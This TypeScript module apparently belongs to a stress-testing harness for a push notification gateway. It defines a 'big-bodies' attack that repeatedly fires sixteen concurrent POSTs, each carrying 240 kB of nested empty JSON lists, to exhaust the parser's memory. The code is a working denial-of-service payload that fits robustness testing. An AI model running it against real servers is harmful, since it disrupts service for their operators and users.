import type { Attack } from '../attack.ts';
import { unservedApp } from '../site.ts';
import { again, strangersPushkey } from '../strangers.ts';

/** A body of a few bytes for each object that reading it makes. */
export const bigBodies: Attack = {
  name: 'big-bodies',
  does: 'sends sixteen bodies of 240 kB at once, again and again, of nothing but small lists',
  async run(site, signal) {
    const lists = `[${'[],'.repeat(79_999)}[]]`;
    await again(signal, 16, (count) => {
      const device = JSON.stringify({ app_id: unservedApp, pushkey: strangersPushkey(count % 100) });
      return site.post(
        `{"notification":{"event_id":"$lists-${count}","type":"m.room.message",` +
          `"content":{"msgtype":"m.text","body":${lists}},"devices":[${device}]}}`,
      );
    });
  },
};
